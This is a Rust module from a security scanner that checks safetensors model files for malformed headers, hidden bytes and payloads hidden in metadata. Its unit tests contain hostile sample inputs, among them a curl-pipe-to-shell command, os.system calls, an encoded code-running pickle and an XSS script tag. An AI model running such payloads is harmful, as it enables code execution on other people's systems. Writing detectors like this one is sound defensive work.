//! safetensors: an 8-byte little-endian header length, a UTF-8 JSON header, then the data area.
//!
//! Validation follows the reference implementation (huggingface/safetensors `tensor.rs`): header
//! capped at 100 MB, JSON object of tensor entries `{dtype, shape, data_offsets}` plus an
//! optional string-to-string `__metadata__`, spans sorted, contiguous and covering the whole data
//! area. Loading never runs code, so what matters is (1) bytes no tensor accounts for, where a
//! payload can ride along unnoticed, (2) headers that different parsers read differently
//! (duplicate keys), and (3) payloads parked in `__metadata__` for some other consumer to run.
//!
//! Only the header is read: a 10 GB file costs `8 + header_len` bytes.

use crate::source::Source;
use serde::de::{DeserializeSeed, MapAccess, SeqAccess, Visitor};
use std::cell::Cell;
use std::fmt;
use vouch_report::rules::{ST_HIDDEN_BYTES, ST_MALFORMED, ST_METADATA_PAYLOAD};
use vouch_report::Finding;

/// Limits for the header parse.
#[derive(Debug, Clone)]
pub struct StLimits {
    /// Largest header accepted. The reference implementation refuses headers over 100 MB.
    pub max_header_bytes: u64,
    /// JSON values (scalars, arrays, objects) kept from one header: bounds memory for headers
    /// built from millions of tiny values. Real headers need about seven per tensor.
    pub max_json_values: usize,
}

impl Default for StLimits {
    fn default() -> Self {
        StLimits { max_header_bytes: 100_000_000, max_json_values: 4_000_000 }
    }
}

/// One tensor entry of the header.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StTensor {
    pub name: String,
    pub dtype: String,
    pub shape: Vec<u64>,
    /// Byte span in the data area (which starts at `8 + header_len`).
    pub begin: u64,
    pub end: u64,
}

/// What the header says, for the BOM.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StHeader {
    /// Valid tensor entries, sorted by offset.
    pub tensors: Vec<StTensor>,
    /// `__metadata__` in header order.
    pub metadata: Vec<(String, String)>,
    pub header_len: u64,
    /// Sum of the tensors' element counts.
    pub parameters: u128,
}

/// Element width in bits, as the reference `Dtype::bitsize`; `None` for unknown dtypes.
fn dtype_bits(dtype: &str) -> Option<u64> {
    Some(match dtype {
        "F4" => 4,
        "F6_E2M3" | "F6_E3M2" => 6,
        "BOOL" | "U8" | "I8" | "F8_E5M2" | "F8_E4M3" | "F8_E8M0" | "F8_E4M3FNUZ" | "F8_E5M2FNUZ" => 8,
        "I16" | "U16" | "F16" | "BF16" => 16,
        "I32" | "U32" | "F32" => 32,
        "I64" | "U64" | "F64" | "C64" => 64,
        _ => return None,
    })
}

const METADATA_KEY: &str = "__metadata__";
/// Gap findings reported one by one before the rest are summed up.
const MAX_GAP_FINDINGS: usize = 16;

/// Validates a safetensors file from its header alone.
pub fn analyse(src: &dyn Source, limits: &StLimits) -> (Option<StHeader>, Vec<Finding>) {
    let mut findings = Vec::new();
    let malformed = |msg: String| Finding::new(&ST_MALFORMED, msg);
    let len = src.len();
    let prefix = match src.read_exact_vec(0, 8) {
        Ok(p) => p,
        Err(e) => return (None, vec![malformed(format!("cannot read the 8-byte header length: {e}")).offset(0)]),
    };
    let mut n_bytes = [0u8; 8];
    n_bytes.copy_from_slice(&prefix);
    let n = u64::from_le_bytes(n_bytes);
    if n > limits.max_header_bytes {
        let f = malformed(format!("header length {n} is over the {} byte limit", limits.max_header_bytes)).offset(0);
        return (None, vec![f.evidence(format!("header_len={n}"))]);
    }
    let data_start = n.saturating_add(8);
    if data_start > len {
        let f = malformed(format!("header length {n} runs past the end of the {len}-byte file")).offset(0);
        return (None, vec![f.evidence(format!("header_len={n}"))]);
    }
    let raw = match src.read_exact_vec(8, n as usize) {
        Ok(r) => r,
        Err(e) => return (None, vec![malformed(format!("cannot read the header: {e}")).offset(8)]),
    };
    let text = match std::str::from_utf8(&raw) {
        Ok(t) => t,
        Err(e) => {
            let at = 8 + e.valid_up_to() as u64;
            return (None, vec![malformed("header is not valid UTF-8".to_string()).offset(at)]);
        }
    };
    let budget = Cell::new(limits.max_json_values);
    let mut de = serde_json::Deserializer::from_str(text);
    let parsed = JSeed { budget: &budget }.deserialize(&mut de).and_then(|v| de.end().map(|()| v));
    let root = match parsed {
        Ok(v) => v,
        Err(e) => {
            let msg = if budget.get() == 0 {
                format!("header has more than {} JSON values", limits.max_json_values)
            } else {
                format!("header is not valid JSON: {e}")
            };
            return (None, vec![malformed(msg).offset(8)]);
        }
    };
    let J::Obj(entries) = root else {
        return (None, vec![malformed("header is not a JSON object".to_string()).offset(8)]);
    };
    let offsets = key_offsets(text);
    // File offset of the i-th top-level key, and of the j-th key inside its value.
    let key_at = |i: usize| offsets.get(i).map_or(8, |(o, _)| 8 + *o);
    let inner_key_at = |i: usize, j: usize| offsets.get(i).and_then(|(_, c)| c.get(j)).map_or(key_at(i), |o| 8 + *o);

    let mut seen = std::collections::HashSet::new();
    for (i, (k, _)) in entries.iter().enumerate() {
        if !seen.insert(k.as_str()) {
            findings.push(
                malformed(format!("duplicate header key {k:?}: parsers disagree on which entry counts"))
                    .offset(key_at(i))
                    .evidence(k.clone()),
            );
        }
    }

    let mut metadata = Vec::new();
    let mut tensors = Vec::new();
    // Some entry lacks usable offsets, so coverage of the data area cannot be judged.
    let mut coverage_unknown = false;
    for (i, (name, value)) in entries.iter().enumerate() {
        if name == METADATA_KEY {
            match value {
                J::Null => {}
                J::Obj(pairs) => {
                    let mut seen = std::collections::HashSet::new();
                    for (j, (k, v)) in pairs.iter().enumerate() {
                        let at = inner_key_at(i, j);
                        if !seen.insert(k.as_str()) {
                            findings.push(malformed(format!("duplicate __metadata__ key {k:?}")).offset(at).evidence(k.clone()));
                        }
                        let J::Str(v) = v else {
                            findings.push(malformed(format!("__metadata__ value of {k:?} is not a string")).offset(at).evidence(k.clone()));
                            continue;
                        };
                        if let Some(f) = payload_finding(k, v, "__metadata__ value") {
                            findings.push(f.offset(at));
                        }
                        metadata.push((k.clone(), v.clone()));
                    }
                }
                _ => findings.push(malformed("__metadata__ is not an object of strings".to_string()).offset(key_at(i))),
            }
            continue;
        }
        match tensor_entry(name, value) {
            Ok((t, extra)) => {
                for (k, v) in extra {
                    if let Some(f) = payload_finding(k, v, &format!("unknown field of tensor {name:?}")) {
                        findings.push(f.offset(key_at(i)));
                    }
                }
                tensors.push((i, t));
            }
            Err((msg, has_offsets)) => {
                coverage_unknown |= !has_offsets;
                findings.push(malformed(format!("tensor {name:?}: {msg}")).offset(key_at(i)).evidence(name.clone()));
                if let (true, J::Obj(fields)) = (has_offsets, value) {
                    if let Some((b, e)) = fields.iter().rev().find(|(k, _)| k == "data_offsets").and_then(|(_, v)| offsets_of(v)) {
                        // Counted for coverage so a broken entry does not also show up as a gap.
                        tensors.push((i, StTensor { name: name.clone(), dtype: String::new(), shape: Vec::new(), begin: b, end: e }));
                    }
                }
            }
        }
    }

    let data_len = len - data_start;
    tensors.sort_by_key(|(_, t)| (t.begin, t.end));
    let mut parameters: u128 = 0;
    let mut cursor = 0u64;
    let mut gaps = 0usize;
    let mut gap_bytes = 0u64;
    let mut valid = Vec::with_capacity(tensors.len());
    for (i, t) in tensors {
        let at = key_at(i);
        let is_valid = !t.dtype.is_empty();
        if t.end > data_len {
            findings.push(
                malformed(format!("tensor {:?} ends at data offset {} but the data area has {data_len} bytes", t.name, t.end))
                    .offset(at)
                    .evidence(format!("{} data_offsets=[{}, {}]", t.name, t.begin, t.end)),
            );
            coverage_unknown = true;
        } else if t.begin < cursor && t.begin < t.end {
            findings.push(
                malformed(format!("tensor {:?} overlaps the previous tensor (starts at {}, previous ends at {cursor})", t.name, t.begin))
                    .offset(at)
                    .evidence(format!("{} data_offsets=[{}, {}]", t.name, t.begin, t.end)),
            );
        } else if t.begin > cursor {
            gaps += 1;
            gap_bytes = gap_bytes.saturating_add(t.begin - cursor);
            if gaps <= MAX_GAP_FINDINGS && !coverage_unknown {
                findings.push(
                    Finding::new(&ST_HIDDEN_BYTES, format!("{} bytes before tensor {:?} belong to no tensor", t.begin - cursor, t.name))
                        .offset(data_start + cursor)
                        .evidence(format!("gap [{cursor}, {}) in the data area", t.begin)),
                );
            }
        }
        cursor = cursor.max(t.end.min(data_len));
        if is_valid {
            parameters = parameters.saturating_add(t.shape.iter().fold(1u128, |acc, &d| acc.saturating_mul(u128::from(d))));
            valid.push(t);
        }
    }
    if gaps > MAX_GAP_FINDINGS && !coverage_unknown {
        findings.push(
            Finding::new(&ST_HIDDEN_BYTES, format!("{gaps} gaps between tensors hold {gap_bytes} bytes in all"))
                .offset(data_start)
                .evidence(format!("{} more gaps not listed", gaps - MAX_GAP_FINDINGS)),
        );
    }
    if cursor < data_len && !coverage_unknown {
        findings.push(
            Finding::new(&ST_HIDDEN_BYTES, format!("{} bytes after the last tensor belong to no tensor", data_len - cursor))
                .offset(data_start + cursor)
                .evidence(format!("trailing data [{cursor}, {data_len}) in the data area")),
        );
    }
    let header = StHeader { tensors: valid, metadata, header_len: n, parameters };
    (Some(header), findings)
}

/// String fields of a tensor entry that the format does not define.
type ExtraFields<'a> = Vec<(&'a str, &'a str)>;

/// Checks one tensor entry. Errors say why and whether `data_offsets` at least parsed.
fn tensor_entry<'a>(name: &str, value: &'a J) -> Result<(StTensor, ExtraFields<'a>), (String, bool)> {
    let J::Obj(fields) = value else {
        return Err(("entry is not an object".to_string(), false));
    };
    let mut seen = std::collections::HashSet::new();
    let mut extra = Vec::new();
    let (mut dtype, mut shape, mut offs) = (None, None, None);
    for (k, v) in fields {
        if !seen.insert(k.as_str()) {
            return Err((format!("duplicate field {k:?}"), false));
        }
        match k.as_str() {
            "dtype" => dtype = Some(v),
            "shape" => shape = Some(v),
            "data_offsets" => offs = Some(v),
            _ => {
                if let J::Str(s) = v {
                    extra.push((k.as_str(), s.as_str()));
                }
            }
        }
    }
    let offsets = offs.and_then(offsets_of);
    let has_offsets = offsets.is_some();
    let fail = |msg: String| Err((msg, has_offsets));
    let Some((begin, end)) = offsets else {
        return fail("data_offsets is missing or not two non-negative integers".to_string());
    };
    let dtype = match dtype {
        Some(J::Str(d)) => d,
        Some(_) => return fail("dtype is not a string".to_string()),
        None => return fail("dtype is missing".to_string()),
    };
    let Some(bits) = dtype_bits(dtype) else {
        return fail(format!("unknown dtype {dtype:?}"));
    };
    let shape: Vec<u64> = match shape {
        Some(J::Arr(dims)) => match dims.iter().map(|d| if let J::U(u) = d { Some(*u) } else { None }).collect::<Option<_>>() {
            Some(s) => s,
            None => return fail("shape has a value that is not a non-negative integer".to_string()),
        },
        _ => return fail("shape is missing or not an array".to_string()),
    };
    if end < begin {
        return fail(format!("data_offsets [{begin}, {end}] end before they begin"));
    }
    let size = shape.iter().try_fold(1u64, |acc, &d| acc.checked_mul(d)).and_then(|n| n.checked_mul(bits));
    let Some(nbits) = size else {
        return fail(format!("shape {shape:?} × {dtype} overflows"));
    };
    if nbits % 8 != 0 {
        return fail(format!("shape {shape:?} × {dtype} is not a whole number of bytes"));
    }
    if nbits / 8 != end - begin {
        return fail(format!("shape {shape:?} × {dtype} needs {} bytes but data_offsets [{begin}, {end}] span {}", nbits / 8, end - begin));
    }
    Ok((StTensor { name: name.to_string(), dtype: dtype.clone(), shape, begin, end }, extra))
}

fn offsets_of(v: &J) -> Option<(u64, u64)> {
    match v {
        J::Arr(a) => match a.as_slice() {
            [J::U(b), J::U(e)] => Some((*b, *e)),
            _ => None,
        },
        _ => None,
    }
}

/// A payload finding for one metadata entry, naming every kind of payload it carries.
fn payload_finding(key: &str, value: &str, what: &str) -> Option<Finding> {
    let mut kinds = payload_kinds(value);
    for k in payload_kinds(key) {
        if !kinds.contains(&k) {
            kinds.push(k);
        }
    }
    if kinds.is_empty() {
        return None;
    }
    let snippet: String = value.chars().take(160).collect::<String>().replace('\n', "\\n");
    let more = if value.chars().count() > 160 { "…" } else { "" };
    Some(
        Finding::new(&ST_METADATA_PAYLOAD, format!("{what} {key:?} carries {}", kinds.join(", ")))
            .evidence(format!("{key}={snippet}{more}")),
    )
}

/// What kinds of payload `text` carries: code, script, URL, encoded pickle or code, escaped bytes.
fn payload_kinds(text: &str) -> Vec<String> {
    let mut kinds = Vec::new();
    if vouch_pickle::payload::find_code(text).is_some() {
        kinds.push("code or a shell command".to_string());
    }
    let lower = text.to_ascii_lowercase();
    // Metadata is shown by model hubs and notebooks; script tags there are an XSS payload.
    if lower.contains("<script") || lower.contains("javascript:") {
        kinds.push("a script tag".to_string());
    }
    if ["http://", "https://", "ftp://"].iter().any(|s| lower.contains(s)) {
        kinds.push("a URL".to_string());
    }
    if let Some(k) = encoded_payload(text) {
        kinds.push(k);
    }
    if let Some(k) = escaped_bytes(text) {
        kinds.push(k);
    }
    kinds
}

/// A base64 or hex token that decodes to a pickle or to code.
fn encoded_payload(text: &str) -> Option<String> {
    use base64::Engine as _;
    let limits = vouch_pickle::Limits::default();
    let is_token_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_');
    for token in text.split(|c: char| !is_token_char(c)).filter(|t| t.len() >= 16) {
        // Hex, raw and base64 decoding of pickles and code, as pickle strings are inspected.
        if let Some(p) = vouch_pickle::payload::inspect(token.as_bytes(), true, 0, &limits, 0) {
            let what = match p.kind {
                vouch_pickle::payload::PayloadKind::Pickle(_) => "pickle",
                vouch_pickle::payload::PayloadKind::Code(_) => "code",
            };
            return Some(format!("{}-encoded {what}", p.encoding.as_str()));
        }
        // A pickle of plain data is no payload inside a pickle, but metadata has no business
        // carrying one at all: whoever reads it back unpickles it.
        let decoded = if token.len() % 2 == 0 && token.bytes().all(|b| b.is_ascii_hexdigit()) {
            hex::decode(token).ok().map(|d| ("hex", d))
        } else {
            let body = token.trim_end_matches('=');
            let engines = [&base64::engine::general_purpose::STANDARD_NO_PAD, &base64::engine::general_purpose::URL_SAFE_NO_PAD];
            engines.iter().find_map(|e| e.decode(body).ok()).map(|d| ("base64", d))
        };
        if let Some((enc, d)) = decoded {
            if d.len() >= 8 && d.last() == Some(&b'.') && vouch_pickle::looks_like_pickle(&d) {
                return Some(format!("{enc}-encoded pickle"));
            }
        }
    }
    None
}

/// A run of `\xHH` escapes: bytes spelled out so that no scanner reads them as text.
fn escaped_bytes(text: &str) -> Option<String> {
    let b = text.as_bytes();
    let mut i = 0;
    while i + 4 <= b.len() {
        let mut run = Vec::new();
        let mut j = i;
        while j + 4 <= b.len() && b[j] == b'\\' && b[j + 1] == b'x' && b[j + 2].is_ascii_hexdigit() && b[j + 3].is_ascii_hexdigit() {
            run.push(u8::from_str_radix(std::str::from_utf8(&b[j + 2..j + 4]).unwrap_or("00"), 16).unwrap_or(0));
            j += 4;
        }
        if run.len() >= 4 {
            let decoded = String::from_utf8_lossy(&run);
            let inner = if vouch_pickle::looks_like_pickle(&run) {
                " (a pickle)"
            } else if vouch_pickle::payload::find_code(&decoded).is_some() {
                " (code)"
            } else {
                ""
            };
            return Some(format!("{} \\x-escaped bytes{inner}", run.len()));
        }
        i = if j > i { j } else { i + 1 };
    }
    None
}

/// Byte offsets (within the header) of each top-level key, and of the keys of each top-level
/// value that is an object, in document order: the same order the parse keeps entries in.
fn key_offsets(text: &str) -> Vec<(u64, Vec<u64>)> {
    let b = text.as_bytes();
    let mut out: Vec<(u64, Vec<u64>)> = Vec::new();
    let mut depth = 0usize;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'{' | b'[' => depth += 1,
            b'}' | b']' => depth = depth.saturating_sub(1),
            b'"' => {
                let start = i;
                i += 1;
                while i < b.len() && b[i] != b'"' {
                    i += if b[i] == b'\\' { 2 } else { 1 };
                }
                let mut k = i + 1;
                while k < b.len() && b[k].is_ascii_whitespace() {
                    k += 1;
                }
                if k < b.len() && b[k] == b':' {
                    match depth {
                        1 => out.push((start as u64, Vec::new())),
                        2 => {
                            if let Some(last) = out.last_mut() {
                                last.1.push(start as u64);
                            }
                        }
                        _ => {}
                    }
                }
            }
            _ => {}
        }
        i += 1;
    }
    out
}

/// A JSON value that keeps every object entry in order, duplicates included (serde_json's
/// `Value` keeps only the last of duplicate keys, hiding exactly what a crafted header exploits).
#[derive(Debug)]
enum J {
    Null,
    Bool,
    U(u64),
    Other,
    Str(String),
    Arr(Vec<J>),
    Obj(Vec<(String, J)>),
}

/// Deserialises a [`J`], charging every value to a shared budget.
#[derive(Clone, Copy)]
struct JSeed<'b> {
    budget: &'b Cell<usize>,
}

impl JSeed<'_> {
    fn charge<E: serde::de::Error>(&self) -> Result<(), E> {
        match self.budget.get() {
            0 => Err(E::custom("too many JSON values")),
            n => {
                self.budget.set(n - 1);
                Ok(())
            }
        }
    }
}

impl<'de> DeserializeSeed<'de> for JSeed<'_> {
    type Value = J;
    fn deserialize<D: serde::Deserializer<'de>>(self, d: D) -> Result<J, D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for JSeed<'_> {
    type Value = J;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a JSON value")
    }
    fn visit_unit<E: serde::de::Error>(self) -> Result<J, E> {
        self.charge()?;
        Ok(J::Null)
    }
    fn visit_bool<E: serde::de::Error>(self, _: bool) -> Result<J, E> {
        self.charge()?;
        Ok(J::Bool)
    }
    fn visit_u64<E: serde::de::Error>(self, v: u64) -> Result<J, E> {
        self.charge()?;
        Ok(J::U(v))
    }
    fn visit_i64<E: serde::de::Error>(self, v: i64) -> Result<J, E> {
        self.charge()?;
        Ok(u64::try_from(v).map_or(J::Other, J::U))
    }
    fn visit_f64<E: serde::de::Error>(self, _: f64) -> Result<J, E> {
        self.charge()?;
        Ok(J::Other)
    }
    fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<J, E> {
        self.charge()?;
        Ok(J::Str(v.to_string()))
    }
    fn visit_string<E: serde::de::Error>(self, v: String) -> Result<J, E> {
        self.charge()?;
        Ok(J::Str(v))
    }
    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<J, A::Error> {
        self.charge()?;
        let mut out = Vec::new();
        while let Some(v) = seq.next_element_seed(self)? {
            out.push(v);
        }
        Ok(J::Arr(out))
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<J, A::Error> {
        self.charge()?;
        let mut out = Vec::new();
        while let Some(k) = map.next_key::<String>()? {
            let v = map.next_value_seed(self)?;
            out.push((k, v));
        }
        Ok(J::Obj(out))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;
    use std::sync::atomic::{AtomicU64, Ordering};

    fn file(header: &str, data_len: usize) -> Vec<u8> {
        let mut v = (header.len() as u64).to_le_bytes().to_vec();
        v.extend_from_slice(header.as_bytes());
        v.extend(std::iter::repeat_n(0u8, data_len));
        v
    }

    fn run(bytes: &[u8]) -> (Option<StHeader>, Vec<Finding>) {
        analyse(&bytes.to_vec(), &StLimits::default())
    }

    fn codes(f: &[Finding]) -> Vec<&'static str> {
        f.iter().map(|f| f.rule.code).collect()
    }

    fn has(f: &[Finding], code: &str, needle: &str) -> bool {
        f.iter().any(|f| f.rule.code == code && (f.message.contains(needle) || f.evidence.contains(needle)))
    }

    const TWO: &str = r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"U8","shape":[3],"data_offsets":[8,11]}}"#;

    #[test]
    fn valid_file_is_clean_and_described() {
        let (h, f) = run(&file(TWO, 11));
        assert!(f.is_empty(), "{f:?}");
        let h = h.unwrap();
        assert_eq!(h.tensors.len(), 2);
        assert_eq!(h.parameters, 5);
        assert_eq!(h.header_len, TWO.len() as u64);
        assert_eq!(h.tensors[1], StTensor { name: "b".into(), dtype: "U8".into(), shape: vec![3], begin: 8, end: 11 });
    }

    #[test]
    fn every_documented_dtype_is_known() {
        for (d, bits) in [
            ("BOOL", 8),
            ("U8", 8),
            ("I8", 8),
            ("F8_E5M2", 8),
            ("F8_E4M3", 8),
            ("F8_E8M0", 8),
            ("I16", 16),
            ("U16", 16),
            ("F16", 16),
            ("BF16", 16),
            ("I32", 32),
            ("U32", 32),
            ("F32", 32),
            ("F64", 64),
            ("I64", 64),
            ("U64", 64),
            ("C64", 64),
            ("F4", 4),
            ("F6_E2M3", 6),
            ("F6_E3M2", 6),
        ] {
            let bytes = 8 * bits / 8;
            let h = format!(r#"{{"t":{{"dtype":"{d}","shape":[8],"data_offsets":[0,{bytes}]}}}}"#);
            let (_, f) = run(&file(&h, bytes));
            assert!(f.is_empty(), "{d}: {f:?}");
        }
        let (_, f) = run(&file(r#"{"t":{"dtype":"F128","shape":[1],"data_offsets":[0,16]}}"#, 16));
        assert!(has(&f, "VCH-ST-001", "unknown dtype"));
        // Sub-byte element counts must fill whole bytes, as the reference requires.
        let (_, f) = run(&file(r#"{"t":{"dtype":"F4","shape":[3],"data_offsets":[0,2]}}"#, 2));
        assert!(has(&f, "VCH-ST-001", "whole number of bytes"));
    }

    #[test]
    fn length_prefix_problems() {
        let (h, f) = run(b"\x01\x02");
        assert!(h.is_none() && has(&f, "VCH-ST-001", "8-byte header length"));
        let mut big = 200_000_000u64.to_le_bytes().to_vec();
        big.extend_from_slice(b"{}");
        let (_, f) = run(&big);
        assert!(has(&f, "VCH-ST-001", "over the 100000000 byte limit"));
        let mut past = 50u64.to_le_bytes().to_vec();
        past.extend_from_slice(b"{}");
        let (_, f) = run(&past);
        assert!(has(&f, "VCH-ST-001", "runs past the end"));
    }

    #[test]
    fn header_text_problems() {
        let mut bad_utf8 = 4u64.to_le_bytes().to_vec();
        bad_utf8.extend_from_slice(b"{\xff}\x20");
        assert!(has(&run(&bad_utf8).1, "VCH-ST-001", "UTF-8"));
        assert!(has(&run(&file("{\"a\":", 0)).1, "VCH-ST-001", "not valid JSON"));
        assert!(has(&run(&file("[1,2]", 0)).1, "VCH-ST-001", "not a JSON object"));
        // Bytes after the JSON object other than padding spaces are rejected, like serde_json does.
        assert!(has(&run(&file("{}  x", 0)).1, "VCH-ST-001", "not valid JSON"));
        // Space padding (how the reference writer aligns the header to 8 bytes) is fine.
        assert!(run(&file("{}      ", 0)).1.is_empty());
        let deep = format!(r#"{{"__metadata__":{{"k":{}{}}}}}"#, "[".repeat(200), "]".repeat(200));
        assert!(has(&run(&file(&deep, 0)).1, "VCH-ST-001", "not valid JSON"));
    }

    #[test]
    fn json_value_budget_bounds_memory() {
        let many = format!(r#"{{"__metadata__":{{"k":"v"}},"x":[{}0]}}"#, "0,".repeat(1000));
        let (_, f) = analyse(&file(&many, 0), &StLimits { max_json_values: 100, ..StLimits::default() });
        assert!(has(&f, "VCH-ST-001", "more than 100 JSON values"), "{f:?}");
    }

    #[test]
    fn duplicate_keys_are_reported() {
        let h = r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}"#;
        let (_, f) = run(&file(h, 2));
        assert!(has(&f, "VCH-ST-001", "duplicate header key \"a\""), "{f:?}");
        let at = f.iter().find(|f| f.message.contains("duplicate")).unwrap().location.offset.unwrap();
        assert_eq!(at, 8 + h.rfind("\"a\"").unwrap() as u64);
        let h = r#"{"__metadata__":{"format":"pt","format":"np"}}"#;
        assert!(has(&run(&file(h, 0)).1, "VCH-ST-001", "duplicate __metadata__ key"));
        let h = r#"{"a":{"dtype":"U8","dtype":"F32","shape":[1],"data_offsets":[0,1]}}"#;
        assert!(has(&run(&file(h, 1)).1, "VCH-ST-001", "duplicate field \"dtype\""));
    }

    #[test]
    fn metadata_must_map_strings_to_strings() {
        assert!(has(&run(&file(r#"{"__metadata__":{"n":1}}"#, 0)).1, "VCH-ST-001", "not a string"));
        assert!(has(&run(&file(r#"{"__metadata__":[1]}"#, 0)).1, "VCH-ST-001", "not an object of strings"));
        assert!(run(&file(r#"{"__metadata__":null}"#, 0)).1.is_empty());
    }

    #[test]
    fn tensor_entry_problems() {
        for (h, needle) in [
            (r#"{"a":1}"#, "not an object"),
            (r#"{"a":{"dtype":"U8","shape":[1]}}"#, "data_offsets is missing"),
            (r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,-1]}}"#, "data_offsets is missing"),
            (r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1,2]}}"#, "data_offsets is missing"),
            (r#"{"a":{"dtype":7,"shape":[1],"data_offsets":[0,1]}}"#, "dtype is not a string"),
            (r#"{"a":{"shape":[1],"data_offsets":[0,1]}}"#, "dtype is missing"),
            (r#"{"a":{"dtype":"U8","shape":[1.5],"data_offsets":[0,1]}}"#, "not a non-negative integer"),
            (r#"{"a":{"dtype":"U8","data_offsets":[0,1]}}"#, "shape is missing"),
            (r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[1,0]}}"#, "end before they begin"),
            (r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,1]}}"#, "needs 2 bytes"),
            (r#"{"a":{"dtype":"F64","shape":[4294967296,4294967296],"data_offsets":[0,1]}}"#, "overflows"),
            (r#"{"a":{"dtype":"U8","shape":[18446744073709551615,2],"data_offsets":[0,1]}}"#, "overflows"),
        ] {
            let (_, f) = run(&file(h, 1));
            assert!(has(&f, "VCH-ST-001", needle), "{h}: {f:?}");
        }
    }

    #[test]
    fn spans_outside_overlapping_gaps_and_trailing_bytes() {
        // Past the end of the data area.
        let (_, f) = run(&file(r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}"#, 2));
        assert!(has(&f, "VCH-ST-001", "data area has 2 bytes"), "{f:?}");
        // Overlap.
        let h = r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[2],"data_offsets":[2,4]}}"#;
        assert!(has(&run(&file(h, 4)).1, "VCH-ST-001", "overlaps"));
        // A gap at the start, between tensors, and trailing bytes: hidden bytes, not malformed.
        let h = r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[3,5]},"b":{"dtype":"U8","shape":[1],"data_offsets":[9,10]}}"#;
        let (hdr, f) = run(&file(h, 16));
        assert_eq!(codes(&f), ["VCH-ST-002"; 3], "{f:?}");
        assert!(
            has(&f, "VCH-ST-002", "gap [0, 3)") && has(&f, "VCH-ST-002", "gap [5, 9)") && has(&f, "VCH-ST-002", "trailing data [10, 16)")
        );
        let data_start = 8 + h.len() as u64;
        assert_eq!(f[0].location.offset, Some(data_start));
        assert_eq!(hdr.unwrap().tensors.len(), 2);
        // No tensors but data.
        assert_eq!(codes(&run(&file("{}", 5)).1), ["VCH-ST-002"]);
        // Zero-sized tensors at the same offset are fine.
        let h = r#"{"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]},"b":{"dtype":"U8","shape":[0,3],"data_offsets":[0,0]}}"#;
        assert!(run(&file(h, 0)).1.is_empty());
    }

    #[test]
    fn a_broken_entry_does_not_also_report_gaps() {
        let h = r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"XX","shape":[2],"data_offsets":[2,4]}}"#;
        assert_eq!(codes(&run(&file(h, 4)).1), ["VCH-ST-001"]);
        let h = r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2]}}"#;
        assert_eq!(codes(&run(&file(h, 4)).1), ["VCH-ST-001"]);
    }

    #[test]
    fn many_gaps_are_summed_up() {
        let entries: Vec<String> =
            (0..40).map(|i| format!(r#""t{i}":{{"dtype":"U8","shape":[1],"data_offsets":[{},{}]}}"#, 2 * i + 1, 2 * i + 2)).collect();
        let h = format!("{{{}}}", entries.join(","));
        let (_, f) = run(&file(&h, 80));
        assert_eq!(f.len(), MAX_GAP_FINDINGS + 1);
        assert!(has(&f, "VCH-ST-002", "40 gaps between tensors hold 40 bytes"));
    }

    #[test]
    fn metadata_payloads() {
        let pickle_hex: String = b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins\x8c\x05print\x93\x8c\x01x\x85R."
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let data_pickle = {
            use base64::Engine as _;
            base64::engine::general_purpose::STANDARD.encode(b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s.")
        };
        for (value, kind) in [
            ("import os; os.system('id')", "code"),
            ("curl http://x.example/a.sh | sh", "code"),
            ("see https://example.com/x", "URL"),
            ("FTP://files.example/x", "URL"),
            ("<SCRIPT>alert(1)</script>", "script tag"),
            ("b3Muc3lzdGVtKCdlY2hvIEFUVEFDSycp", "base64-encoded code"),
            (pickle_hex.as_str(), "hex-encoded pickle"),
            (data_pickle.as_str(), "base64-encoded pickle"),
            (r"\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x29", "escaped bytes (code)"),
            (r"\x41\x42\x43\x44", "4 \\x-escaped bytes"),
        ] {
            let h = format!(r#"{{"__metadata__":{{"k":{}}}}}"#, serde_json::to_string(value).unwrap());
            let (hdr, f) = run(&file(&h, 0));
            assert!(has(&f, "VCH-ST-003", kind), "{value}: {f:?}");
            assert_eq!(f[0].location.offset, Some(8 + h.find("\"k\"").unwrap() as u64));
            assert_eq!(hdr.unwrap().metadata, vec![("k".to_string(), value.to_string())]);
        }
        // Payloads in unknown tensor fields and in metadata keys count too.
        let h = r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"note":"exec(open('x').read())"}}"#;
        assert!(has(&run(&file(h, 1)).1, "VCH-ST-003", "unknown field of tensor"));
        let h = r#"{"__metadata__":{"__import__('os')":"x"}}"#;
        assert!(has(&run(&file(h, 0)).1, "VCH-ST-003", "code"));
    }

    #[test]
    fn ordinary_metadata_is_not_a_payload() {
        for value in [
            "pt",
            "1.2.3",
            "transformer-small",
            "A small transformer model for text classification",
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/==",
            "0123456789abcdef0123456789abcdef",
            "{\"ss_network_dim\": 32, \"ss_tag_frequency\": {\"1_x\": {\"girl\": 3}}}",
